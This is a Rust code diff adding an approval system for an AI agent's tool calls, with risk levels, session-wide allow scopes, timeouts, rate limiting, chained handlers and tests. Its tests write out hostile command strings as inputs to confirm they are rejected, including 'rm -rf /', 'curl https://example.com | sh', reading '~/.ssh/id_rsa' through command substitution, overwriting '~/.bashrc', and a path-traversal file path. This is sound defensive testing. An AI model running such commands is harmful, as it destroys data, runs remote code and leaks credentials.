@@ -1,10 +1,20 @@
 //! Approval handling for tool invocations.
 
+use std::{
+    collections::{HashMap, HashSet, VecDeque},
+    path::{Component, Path},
+    sync::{Arc, Mutex, PoisonError},
+    time::{Duration, Instant},
+};
+
 use async_trait::async_trait;
+use json_patch::Patch;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 use thiserror::Error;
 
+use crate::{normalized::ToolKind, risk};
+
 /// Approval status for a tool invocation.
 #[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
 #[serde(tag = "status", rename_all = "snake_case")]
@@ -19,23 +29,164 @@ pub enum ApprovalStatus {
     Pending,
 }
 
+/// How much harm a tool call could do, for how prominently to ask.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ApprovalRisk {
+    /// Reads or searches.
+    Low,
+    /// Edits files or fetches from the web.
+    Medium,
+    /// Runs commands, or does something unknown.
+    High,
+}
+
+impl ApprovalRisk {
+    /// Classify a tool by name. `RiskClassifier` also looks at its input.
+    #[must_use]
+    pub fn of_tool(tool_name: &str) -> Self {
+        match ToolKind::from_name(tool_name) {
+            ToolKind::Read | ToolKind::Search => Self::Low,
+            ToolKind::Edit | ToolKind::Fetch => Self::Medium,
+            ToolKind::Execute | ToolKind::Other => Self::High,
+        }
+    }
+}
+
 /// Result of an approval request.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(tag = "behavior", rename_all = "camelCase")]
 pub enum ApprovalResult {
-    /// Allow the tool invocation.
+    /// Allow the tool invocation, and calls like it per `scope`.
     Allow {
         #[serde(rename = "updatedInput")]
         updated_input: Value,
+        #[serde(default, skip_serializing_if = "ApprovalScope::is_once")]
+        scope: ApprovalScope,
+        /// Who allowed it, e.g. a user name, if known.
+        #[serde(default, rename = "decidedBy", skip_serializing_if = "Option::is_none")]
+        decided_by: Option<String>,
     },
     /// Deny the tool invocation.
     Deny {
         message: String,
         #[serde(skip_serializing_if = "Option::is_none")]
         interrupt: Option<bool>,
+        /// Who denied it, e.g. a user name, if known.
+        #[serde(default, rename = "decidedBy", skip_serializing_if = "Option::is_none")]
+        decided_by: Option<String>,
     },
 }
 
+impl ApprovalResult {
+    /// Allow this call only, with `updated_input`.
+    #[must_use]
+    pub const fn allow(updated_input: Value) -> Self {
+        Self::Allow {
+            updated_input,
+            scope: ApprovalScope::Once,
+            decided_by: None,
+        }
+    }
+
+    /// Record the decision as made by `decided_by`, e.g. a user name.
+    #[must_use]
+    pub fn with_decided_by(mut self, decided_by: impl Into<String>) -> Self {
+        match &mut self {
+            Self::Allow { decided_by: by, .. } | Self::Deny { decided_by: by, .. } => {
+                *by = Some(decided_by.into());
+            }
+        }
+        self
+    }
+
+    /// Who made the decision, if known.
+    #[must_use]
+    pub fn decided_by(&self) -> Option<&str> {
+        match self {
+            Self::Allow { decided_by, .. } | Self::Deny { decided_by, .. } => decided_by.as_deref(),
+        }
+    }
+}
+
+/// Which later tool calls an approval also covers, for the rest of the
+/// session.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub enum ApprovalScope {
+    /// Only the call approved.
+    #[default]
+    Once,
+    /// Every call of the same tool.
+    Tool,
+    /// Calls of the same tool whose command (or, for file tools, path)
+    /// equals `pattern`, or starts with it if it ends in `*`, e.g.
+    /// `cargo test*`.
+    ///
+    /// Only a single command without command substitutions or redirections
+    /// can match, so `cargo test*` does not cover `cargo test && rm -rf ~`.
+    /// Paths are matched with `.` removed, and never match if they contain
+    /// `..`.
+    Pattern { pattern: String },
+}
+
+impl ApprovalScope {
+    /// Whether the approval covers only the call approved.
+    #[must_use]
+    pub const fn is_once(&self) -> bool {
+        matches!(self, Self::Once)
+    }
+
+    /// Whether an approval with this scope covers a call with `tool_input`.
+    fn covers(&self, tool_input: &Value) -> bool {
+        match self {
+            Self::Once => false,
+            Self::Tool => true,
+            Self::Pattern { pattern } => {
+                let subject = tool_input
+                    .get("command")
+                    .and_then(Value::as_str)
+                    .map_or_else(
+                        || {
+                            tool_input
+                                .get("file_path")
+                                .and_then(Value::as_str)
+                                .and_then(normalize_path)
+                        },
+                        |command| is_simple_command(command).then(|| command.trim().to_string()),
+                    );
+                let Some(subject) = subject else {
+                    return false;
+                };
+                pattern
+                    .strip_suffix('*')
+                    .map_or(subject == *pattern, |prefix| subject.starts_with(prefix))
+            }
+        }
+    }
+}
+
+/// Whether `command` is a single command that runs nothing else and
+/// writes nowhere but its output.
+fn is_simple_command(command: &str) -> bool {
+    risk::split_commands(command).len() == 1
+        && !["$(", "`", ">", "<"]
+            .iter()
+            .any(|operator| command.contains(operator))
+}
+
+/// `path` with `.` removed, or `None` if it contains `..`.
+fn normalize_path(path: &str) -> Option<String> {
+    let path = Path::new(path);
+    if path
+        .components()
+        .any(|component| component == Component::ParentDir)
+    {
+        return None;
+    }
+    risk::normalize(path).map(|path| path.to_string_lossy().into_owned())
+}
+
 /// Approval error.
 #[derive(Debug, Error)]
 pub enum ApprovalError {
@@ -45,6 +196,14 @@ pub enum ApprovalError {
     RequestFailed(String),
     #[error("Approval request timed out")]
     TimedOut,
+    #[error("No pending approval request {0}")]
+    NotPending(String),
+    #[error("Approval store error: {0}")]
+    Store(String),
+    /// The handler leaves the decision to the next one in a
+    /// `CompositeApprovalHandler`.
+    #[error("No approval handler decided")]
+    Undecided,
 }
 
 /// Trait for handling tool approval requests.
@@ -68,6 +227,52 @@ pub trait ApprovalHandler: Send + Sync {
         tool_input: Value,
         tool_call_id: &str,
     ) -> Result<ApprovalResult, ApprovalError>;
+
+    /// Request approval for a tool invocation whose input was changed after
+    /// the model wrote it, e.g. by a `PreToolUse` hook. `changes` turn the
+    /// model's input into `tool_input`, for showing reviewers what changed.
+    ///
+    /// By default the changes are ignored.
+    async fn request_modified_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: &Patch,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        let _ = changes;
+        self.request_approval(tool_name, tool_input, tool_call_id)
+            .await
+    }
+}
+
+/// Changes turning a tool call's `original` input into `updated`, as a JSON
+/// Patch; empty if they are equal.
+#[must_use]
+pub fn input_changes(original: &Value, updated: &Value) -> Patch {
+    json_patch::diff(original, updated)
+}
+
+/// Ask `handler`, telling it of `changes` to the input if there are any.
+pub(crate) async fn ask<H: ApprovalHandler + ?Sized>(
+    handler: &H,
+    tool_name: &str,
+    tool_input: Value,
+    tool_call_id: &str,
+    changes: Option<&Patch>,
+) -> Result<ApprovalResult, ApprovalError> {
+    match changes {
+        Some(changes) => {
+            handler
+                .request_modified_approval(tool_name, tool_input, tool_call_id, changes)
+                .await
+        }
+        None => {
+            handler
+                .request_approval(tool_name, tool_input, tool_call_id)
+                .await
+        }
+    }
 }
 
 /// No-op approval handler that auto-approves everything.
@@ -82,8 +287,649 @@ impl ApprovalHandler for AutoApproveHandler {
         tool_input: Value,
         _tool_call_id: &str,
     ) -> Result<ApprovalResult, ApprovalError> {
-        Ok(ApprovalResult::Allow {
-            updated_input: tool_input,
+        Ok(ApprovalResult::allow(tool_input))
+    }
+}
+
+/// Approval handler denying everything, e.g. for sessions that must not
+/// use tools.
+#[derive(Debug, Clone)]
+pub struct DenyAllHandler {
+    message: String,
+}
+
+impl DenyAllHandler {
+    /// Deny every call with `message`, shown to the model.
+    #[must_use]
+    pub fn new(message: impl Into<String>) -> Self {
+        Self {
+            message: message.into(),
+        }
+    }
+}
+
+impl Default for DenyAllHandler {
+    fn default() -> Self {
+        Self::new("Tool calls are not allowed in this session")
+    }
+}
+
+#[async_trait]
+impl ApprovalHandler for DenyAllHandler {
+    async fn request_approval(
+        &self,
+        _tool_name: &str,
+        _tool_input: Value,
+        _tool_call_id: &str,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        Ok(ApprovalResult::Deny {
+            message: self.message.clone(),
+            interrupt: None,
+            decided_by: None,
         })
     }
 }
+
+/// Tool calls a session's user chose to always allow.
+///
+/// Kept in the session's `SessionState`, so follow-ups and resumes of the
+/// session share them.
+#[derive(Debug, Default)]
+pub struct ApprovalGrants {
+    /// Scopes approved, by tool name.
+    allowed: Mutex<Vec<(String, ApprovalScope)>>,
+}
+
+impl ApprovalGrants {
+    fn covers(&self, tool_name: &str, tool_input: &Value) -> bool {
+        self.allowed
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .iter()
+            .any(|(tool, scope)| tool == tool_name && scope.covers(tool_input))
+    }
+
+    fn grant(&self, tool_name: &str, scope: ApprovalScope) {
+        self.allowed
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .push((tool_name.to_string(), scope));
+    }
+}
+
+/// Approval handler remembering "always allow" decisions for a session.
+///
+/// Asks `handler` about each call unless an earlier approval's scope
+/// covers it, in which case the call is approved without asking. Executors
+/// create one per session process with the session's `ApprovalGrants`, so
+/// decisions carry over to its follow-ups but not into other sessions.
+pub struct ApprovalMemory {
+    handler: Arc<dyn ApprovalHandler>,
+    grants: Arc<ApprovalGrants>,
+}
+
+impl ApprovalMemory {
+    /// Remember the decisions `handler` makes.
+    #[must_use]
+    pub fn new(handler: Arc<dyn ApprovalHandler>) -> Self {
+        Self::with_grants(handler, Arc::default())
+    }
+
+    /// Remember the decisions `handler` makes in `grants`, e.g. those of
+    /// the session from its `SessionState`.
+    #[must_use]
+    pub const fn with_grants(
+        handler: Arc<dyn ApprovalHandler>,
+        grants: Arc<ApprovalGrants>,
+    ) -> Self {
+        Self { handler, grants }
+    }
+
+    async fn request(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: Option<&Patch>,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        if self.grants.covers(tool_name, &tool_input) {
+            tracing::debug!(
+                "Tool call {tool_call_id} to {tool_name} allowed by an earlier approval"
+            );
+            return Ok(ApprovalResult::allow(tool_input));
+        }
+        let result = ask(
+            self.handler.as_ref(),
+            tool_name,
+            tool_input,
+            tool_call_id,
+            changes,
+        )
+        .await?;
+        if let ApprovalResult::Allow { scope, .. } = &result {
+            if !scope.is_once() {
+                self.grants.grant(tool_name, scope.clone());
+            }
+        }
+        Ok(result)
+    }
+}
+
+#[async_trait]
+impl ApprovalHandler for ApprovalMemory {
+    async fn request_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, None)
+            .await
+    }
+
+    async fn request_modified_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: &Patch,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, Some(changes))
+            .await
+    }
+}
+
+/// Approval handler giving up on `inner` after a deadline.
+///
+/// An approval nobody answers, e.g. in an unattended browser tab, would
+/// otherwise hold the agent on its tool call forever. On expiry, or if
+/// `inner` times out itself, the call is denied with a message, unless the
+/// tool is one allowed on timeout (e.g. read-only tools).
+pub struct TimeoutApprovalHandler<H> {
+    inner: H,
+    timeout: Duration,
+    deny_message: String,
+    allowed_on_timeout: HashSet<String>,
+}
+
+impl<H: ApprovalHandler> TimeoutApprovalHandler<H> {
+    /// Wait up to `timeout` for `inner` to decide.
+    #[must_use]
+    pub fn new(inner: H, timeout: Duration) -> Self {
+        Self {
+            inner,
+            timeout,
+            deny_message: format!("No approval within {}s", timeout.as_secs()),
+            allowed_on_timeout: HashSet::new(),
+        }
+    }
+
+    /// Deny timed out calls with `message`, shown to the model.
+    #[must_use]
+    pub fn with_deny_message(mut self, message: impl Into<String>) -> Self {
+        self.deny_message = message.into();
+        self
+    }
+
+    /// Allow timed out calls of `tools` instead of denying them.
+    #[must_use]
+    pub fn with_allowed_on_timeout<I, T>(mut self, tools: I) -> Self
+    where
+        I: IntoIterator<Item = T>,
+        T: Into<String>,
+    {
+        self.allowed_on_timeout
+            .extend(tools.into_iter().map(Into::into));
+        self
+    }
+
+    fn on_timeout(&self, tool_name: &str, tool_input: Value) -> ApprovalResult {
+        tracing::warn!("Approval of {tool_name} timed out after {:?}", self.timeout);
+        if self.allowed_on_timeout.contains(tool_name) {
+            ApprovalResult::allow(tool_input)
+        } else {
+            ApprovalResult::Deny {
+                message: self.deny_message.clone(),
+                interrupt: None,
+                decided_by: None,
+            }
+        }
+    }
+
+    async fn request(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: Option<&Patch>,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        let request = ask(
+            &self.inner,
+            tool_name,
+            tool_input.clone(),
+            tool_call_id,
+            changes,
+        );
+        match tokio::time::timeout(self.timeout, request).await {
+            Ok(Err(ApprovalError::TimedOut)) | Err(_) => Ok(self.on_timeout(tool_name, tool_input)),
+            Ok(result) => result,
+        }
+    }
+}
+
+#[async_trait]
+impl<H: ApprovalHandler> ApprovalHandler for TimeoutApprovalHandler<H> {
+    async fn request_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, None)
+            .await
+    }
+
+    async fn request_modified_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: &Patch,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, Some(changes))
+            .await
+    }
+}
+
+/// Approval handler capping how many calls of each tool `inner` allows per
+/// minute.
+///
+/// Meant for automatic approval, e.g. `AutoApproveHandler` or a policy, so
+/// an agent stuck in a loop of hundreds of calls gets a human in the loop:
+/// past the cap, allowed calls are left `ApprovalError::Undecided` instead,
+/// for the next handler of a `CompositeApprovalHandler` to ask about. Denials
+/// pass through.
+pub struct RateLimitedApprovalHandler<H> {
+    inner: H,
+    max_allowed: usize,
+    window: Duration,
+    /// When calls were allowed within the window, by tool name.
+    allowed: Mutex<HashMap<String, VecDeque<Instant>>>,
+}
+
+impl<H: ApprovalHandler> RateLimitedApprovalHandler<H> {
+    /// Let `inner` allow up to `max_per_minute` calls of each tool a
+    /// minute.
+    #[must_use]
+    pub fn new(inner: H, max_per_minute: usize) -> Self {
+        Self {
+            inner,
+            max_allowed: max_per_minute,
+            window: Duration::from_secs(60),
+            allowed: Mutex::default(),
+        }
+    }
+
+    /// Count calls over `window` instead of a minute.
+    #[must_use]
+    pub const fn with_window(mut self, window: Duration) -> Self {
+        self.window = window;
+        self
+    }
+
+    /// Record an allowed call of `tool_name`, returning false instead if
+    /// the tool is over its limit.
+    fn try_allow(&self, tool_name: &str) -> bool {
+        let now = Instant::now();
+        let mut allowed = self.allowed.lock().unwrap_or_else(PoisonError::into_inner);
+        let times = allowed.entry(tool_name.to_string()).or_default();
+        while times
+            .front()
+            .is_some_and(|time| now.duration_since(*time) >= self.window)
+        {
+            times.pop_front();
+        }
+        let under_limit = times.len() < self.max_allowed;
+        if under_limit {
+            times.push_back(now);
+        }
+        drop(allowed);
+        under_limit
+    }
+
+    async fn request(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: Option<&Patch>,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        let result = ask(&self.inner, tool_name, tool_input, tool_call_id, changes).await?;
+        if matches!(result, ApprovalResult::Allow { .. }) && !self.try_allow(tool_name) {
+            tracing::warn!(
+                "Over {} automatic approvals of {tool_name} in {:?}, asking about {tool_call_id}",
+                self.max_allowed,
+                self.window
+            );
+            return Err(ApprovalError::Undecided);
+        }
+        Ok(result)
+    }
+}
+
+#[async_trait]
+impl<H: ApprovalHandler> ApprovalHandler for RateLimitedApprovalHandler<H> {
+    async fn request_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, None)
+            .await
+    }
+
+    async fn request_modified_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: &Patch,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, Some(changes))
+            .await
+    }
+}
+
+/// Approval handler asking a chain of handlers in turn.
+///
+/// Lets automated rules sit in front of interactive approval, e.g. a
+/// policy engine, then remembered decisions, then a human. The first
+/// handler to allow or deny decides. A handler passes the call on by
+/// returning `ApprovalError::Undecided`, by timing out, or by exceeding
+/// its own timeout; any other error fails the request. If every handler
+/// passes, the request fails with `Undecided`.
+#[derive(Default)]
+pub struct CompositeApprovalHandler {
+    handlers: Vec<(Arc<dyn ApprovalHandler>, Option<Duration>)>,
+}
+
+impl CompositeApprovalHandler {
+    /// Create a chain with no handlers.
+    #[must_use]
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Ask `handler` next, for as long as it takes.
+    #[must_use]
+    pub fn with_handler(mut self, handler: Arc<dyn ApprovalHandler>) -> Self {
+        self.handlers.push((handler, None));
+        self
+    }
+
+    /// Ask `handler` next, passing the call on if it takes over `timeout`.
+    #[must_use]
+    pub fn with_handler_timeout(
+        mut self,
+        handler: Arc<dyn ApprovalHandler>,
+        timeout: Duration,
+    ) -> Self {
+        self.handlers.push((handler, Some(timeout)));
+        self
+    }
+
+    async fn request(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: Option<&Patch>,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        for (index, (handler, timeout)) in self.handlers.iter().enumerate() {
+            let request = ask(
+                handler.as_ref(),
+                tool_name,
+                tool_input.clone(),
+                tool_call_id,
+                changes,
+            );
+            let result = match timeout {
+                Some(timeout) => tokio::time::timeout(*timeout, request)
+                    .await
+                    .unwrap_or(Err(ApprovalError::TimedOut)),
+                None => request.await,
+            };
+            match result {
+                Err(ApprovalError::Undecided | ApprovalError::TimedOut) => {
+                    tracing::debug!("Approval handler {index} passed on {tool_call_id}");
+                }
+                result => return result,
+            }
+        }
+        Err(ApprovalError::Undecided)
+    }
+}
+
+#[async_trait]
+impl ApprovalHandler for CompositeApprovalHandler {
+    async fn request_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, None)
+            .await
+    }
+
+    async fn request_modified_approval(
+        &self,
+        tool_name: &str,
+        tool_input: Value,
+        tool_call_id: &str,
+        changes: &Patch,
+    ) -> Result<ApprovalResult, ApprovalError> {
+        self.request(tool_name, tool_input, tool_call_id, Some(changes))
+            .await
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    /// Allows `cargo test*`, then denies everything.
+    struct AskOnce(Mutex<bool>);
+
+    #[async_trait]
+    impl ApprovalHandler for AskOnce {
+        async fn request_approval(
+            &self,
+            _tool_name: &str,
+            tool_input: Value,
+            _tool_call_id: &str,
+        ) -> Result<ApprovalResult, ApprovalError> {
+            let asked = std::mem::replace(&mut *self.0.lock().unwrap(), true);
+            if asked {
+                return Ok(ApprovalResult::Deny {
+                    message: "asked twice".into(),
+                    interrupt: None,
+                    decided_by: None,
+                });
+            }
+            Ok(ApprovalResult::Allow {
+                updated_input: tool_input,
+                scope: ApprovalScope::Pattern {
+                    pattern: "cargo test*".into(),
+                },
+                decided_by: None,
+            })
+        }
+    }
+
+    /// Never answers.
+    struct Unattended;
+
+    #[async_trait]
+    impl ApprovalHandler for Unattended {
+        async fn request_approval(
+            &self,
+            _tool_name: &str,
+            _tool_input: Value,
+            _tool_call_id: &str,
+        ) -> Result<ApprovalResult, ApprovalError> {
+            std::future::pending().await
+        }
+    }
+
+    /// Denies `rm` commands, leaving everything else undecided.
+    struct NoRm;
+
+    #[async_trait]
+    impl ApprovalHandler for NoRm {
+        async fn request_approval(
+            &self,
+            _tool_name: &str,
+            tool_input: Value,
+            _tool_call_id: &str,
+        ) -> Result<ApprovalResult, ApprovalError> {
+            let command = tool_input.get("command").and_then(Value::as_str);
+            if command.is_some_and(|command| command.starts_with("rm ")) {
+                return Ok(ApprovalResult::Deny {
+                    message: "no rm".into(),
+                    interrupt: None,
+                    decided_by: None,
+                });
+            }
+            Err(ApprovalError::Undecided)
+        }
+    }
+
+    #[tokio::test]
+    async fn test_composite_first_decision_wins() {
+        let handler = CompositeApprovalHandler::new()
+            .with_handler(Arc::new(NoRm))
+            .with_handler_timeout(Arc::new(Unattended), Duration::from_millis(10))
+            .with_handler(Arc::new(AutoApproveHandler));
+
+        let result = handler
+            .request_approval("Bash", json!({ "command": "rm -rf /" }), "t1")
+            .await
+            .unwrap();
+        assert!(matches!(result, ApprovalResult::Deny { message, .. } if message == "no rm"));
+        let result = handler
+            .request_approval("Bash", json!({ "command": "ls" }), "t2")
+            .await
+            .unwrap();
+        assert!(matches!(result, ApprovalResult::Allow { .. }));
+
+        let undecided = CompositeApprovalHandler::new().with_handler(Arc::new(NoRm));
+        let result = undecided
+            .request_approval("Bash", json!({ "command": "ls" }), "t3")
+            .await;
+        assert!(matches!(result, Err(ApprovalError::Undecided)));
+    }
+
+    #[tokio::test]
+    async fn test_rate_limit_passes_on_excess_approvals() {
+        let handler = CompositeApprovalHandler::new()
+            .with_handler(Arc::new(
+                RateLimitedApprovalHandler::new(AutoApproveHandler, 2)
+                    .with_window(Duration::from_millis(50)),
+            ))
+            .with_handler(Arc::new(NoRm));
+        let approve = |tool: &'static str, command: &'static str| {
+            handler.request_approval(tool, json!({ "command": command }), "t1")
+        };
+
+        assert!(approve("Bash", "ls").await.is_ok());
+        assert!(approve("Bash", "ls").await.is_ok());
+        assert!(approve("Read", "ls").await.is_ok());
+        let result = approve("Bash", "rm -rf target").await.unwrap();
+        assert!(matches!(result, ApprovalResult::Deny { message, .. } if message == "no rm"));
+        assert!(matches!(
+            approve("Bash", "ls").await,
+            Err(ApprovalError::Undecided)
+        ));
+
+        tokio::time::sleep(Duration::from_millis(60)).await;
+        assert!(approve("Bash", "ls").await.is_ok());
+    }
+
+    #[tokio::test]
+    async fn test_timeout_applies_default_decision() {
+        let handler = TimeoutApprovalHandler::new(Unattended, Duration::from_millis(10))
+            .with_deny_message("Nobody answered")
+            .with_allowed_on_timeout(["Read"]);
+
+        let result = handler
+            .request_approval("Bash", json!({ "command": "ls" }), "t1")
+            .await
+            .unwrap();
+        assert!(
+            matches!(result, ApprovalResult::Deny { message, .. } if message == "Nobody answered")
+        );
+        let result = handler
+            .request_approval("Read", json!({ "file_path": "a.rs" }), "t2")
+            .await
+            .unwrap();
+        assert!(matches!(result, ApprovalResult::Allow { .. }));
+    }
+
+    #[tokio::test]
+    async fn test_memory_allows_matching_calls() {
+        let memory = ApprovalMemory::new(Arc::new(AskOnce(Mutex::new(false))));
+        let approve =
+            |command: &str| memory.request_approval("Bash", json!({ "command": command }), "t1");
+        let allowed = |result: ApprovalResult| matches!(result, ApprovalResult::Allow { .. });
+
+        assert!(allowed(approve("cargo test").await.unwrap()));
+        assert!(allowed(approve("cargo test --workspace").await.unwrap()));
+        assert!(!allowed(approve("rm -rf target").await.unwrap()));
+        let other_tool = memory
+            .request_approval("Write", json!({ "command": "cargo test" }), "t2")
+            .await
+            .unwrap();
+        assert!(!allowed(other_tool));
+
+        // A later process of the same session shares the decision.
+        let grants = Arc::new(ApprovalGrants::default());
+        let first =
+            ApprovalMemory::with_grants(Arc::new(AskOnce(Mutex::new(false))), Arc::clone(&grants));
+        let resumed = ApprovalMemory::with_grants(Arc::new(AskOnce(Mutex::new(true))), grants);
+        let call = json!({ "command": "cargo test" });
+        assert!(allowed(
+            first
+                .request_approval("Bash", call.clone(), "t3")
+                .await
+                .unwrap()
+        ));
+        assert!(allowed(
+            resumed.request_approval("Bash", call, "t4").await.unwrap()
+        ));
+    }
+
+    #[test]
+    fn test_pattern_covers_only_simple_calls() {
+        let pattern = |pattern: &str| ApprovalScope::Pattern {
+            pattern: pattern.into(),
+        };
+        let command = |command: &str| pattern("cargo test*").covers(&json!({ "command": command }));
+        assert!(command("cargo test --workspace"));
+        assert!(command("cargo test -- 'a|b'"));
+        assert!(!command("cargo test && rm -rf ~"));
+        assert!(!command("cargo test; curl https://example.com | sh"));
+        assert!(!command("cargo test $(cat ~/.ssh/id_rsa)"));
+        assert!(!command("cargo test `whoami`"));
+        assert!(!command("cargo test > ~/.bashrc"));
+
+        let path = |path: &str| pattern("src/*").covers(&json!({ "file_path": path }));
+        assert!(path("src/lib.rs"));
+        assert!(path("./src/lib.rs"));
+        assert!(!path("src/../../.ssh/id_rsa"));
+        assert!(!path("README.md"));
+    }
+}